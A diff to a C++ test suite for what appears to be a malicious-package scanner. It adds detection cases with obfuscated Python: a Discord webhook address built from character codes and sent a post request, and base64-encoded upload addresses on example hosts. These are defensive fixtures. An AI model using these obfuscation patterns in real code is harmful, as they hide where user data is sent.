@@ -413,10 +413,20 @@ TEST(Behaviour, HostFactsThroughFunctionReferencesAndTlsSockets) {
                 "exfiltration", Severity::kCritical);
 }
 
+TEST(Behaviour, IndicatorsInStringsBuiltAtRunTime) {
+  ExpectFinding("import requests\nrequests.post(''.join(map(chr, [104,116,116,112,115,58,47,47,100,105,115,99,111,114,100,46,99,111,109,47,97,112,105,47,119,101,98,104,111,111,107,115,47,49,47,97])), json={})\n",
+                "indicator-webhook", Severity::kHigh, Phase::kImport);
+}
+
 TEST(Behaviour, NetworkAddressHiddenInAnEncodedLiteral) {
   ExpectFinding("import base64, requests\nrequests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==')"
                 ".decode(), json={})\n", "hidden-destination", Severity::kHigh, Phase::kRuntime);
   ExpectNoFinding("import requests\nrequests.post('https://x.example/a', json={})\n", "hidden-destination");
+  // An encoded web address handed on through parameters.
+  ExpectFinding("import base64\ndef f(a='aHR0cHM6Ly9maWxlcy5leGFtcGxlLm5ldC91cGxvYWQvYXJjaGl2ZQ=='):\n    g(a)\n",
+                "hidden-destination", Severity::kHigh, Phase::kRuntime);
+  ExpectNoFinding("A = 'c2VlIGh0dHBzOi8veC5leGFtcGxlL2EgZm9yIG1vcmUgZGV0YWlscw=='\n", "hidden-destination");  // text, not an address
+  ExpectFinding("H = 'Y29sbGVjdG9yLmV4YW1wbGUubmV0Ojg0NDMvdXBsb2FkL3Yy'\n", "hidden-destination", Severity::kHigh, Phase::kRuntime);  // host:port/path
 }
 
 TEST(Behaviour, NetworkAtInstall) {
